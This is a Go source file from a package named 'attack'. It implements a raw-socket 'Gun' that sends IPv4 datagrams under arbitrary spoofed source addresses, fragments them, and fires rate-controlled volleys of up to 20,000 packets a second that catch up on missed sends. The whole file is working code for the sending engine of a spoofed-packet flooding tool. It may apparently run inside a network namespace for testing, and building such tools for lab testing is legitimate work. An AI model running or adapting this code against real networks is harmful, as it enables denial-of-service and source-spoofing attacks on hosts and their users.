package attack

import (
	"context"
	"errors"
	"fmt"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// Gun sends datagrams under any source address. One goroutine uses it.
type Gun struct {
	socket int
	id     uint16
	sent   atomic.Uint64
}

// NewGun opens a raw socket in the namespace of the calling thread.
func NewGun() (*Gun, error) {
	socket, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("open raw socket: %w", err)
	}
	return &Gun{socket: socket}, nil
}

// Close frees the socket.
func (g *Gun) Close() { _ = unix.Close(g.socket) }

// Sent is how many datagrams left so far.
func (g *Gun) Sent() uint64 { return g.sent.Load() }

// Fire sends one datagram. What the kernel has no room for is lost, as on any network.
func (g *Gun) Fire(p Packet) error {
	g.id++
	to := unix.SockaddrInet4{Addr: p.To.Addr().As4()}
	for _, b := range p.Fragments(g.id) {
		err := unix.Sendto(g.socket, b, 0, &to)
		switch {
		case errors.Is(err, unix.ENOBUFS), errors.Is(err, unix.EAGAIN), errors.Is(err, unix.EINTR):
			return nil
		case err != nil:
			return fmt.Errorf("send to %s as %s: %w", p.To, p.From, err)
		}
	}
	g.sent.Add(1)
	return nil
}

// MaxRate is the most datagrams in a second that a Gun sends.
const MaxRate = 20_000

// Volley sends packets at a rate, in datagrams a second and at most MaxRate, until they or ctx
// end. What it came too late for it makes up for, but for no more than maxLate.
func (g *Gun) Volley(ctx context.Context, rate int, packets []Packet) error {
	rate = max(1, min(rate, MaxRate))
	begun, owed := time.Now(), 0
	for i, p := range packets {
		for owed == 0 {
			if ctx.Err() != nil {
				return nil
			}
			due := begun.Add(time.Duration(i) * time.Second / time.Duration(rate))
			late := time.Since(due)
			if late < 0 {
				time.Sleep(max(-late, time.Millisecond))
				continue
			}
			if late > maxLate {
				begun, late = begun.Add(late-maxLate), maxLate
			}
			owed = 1 + int(late*time.Duration(rate)/time.Second)
		}
		owed--
		if err := g.Fire(p); err != nil {
			return err
		}
	}
	return nil
}

// maxLate is how far a volley may fall behind before it gives up what it missed.
const maxLate = 50 * time.Millisecond
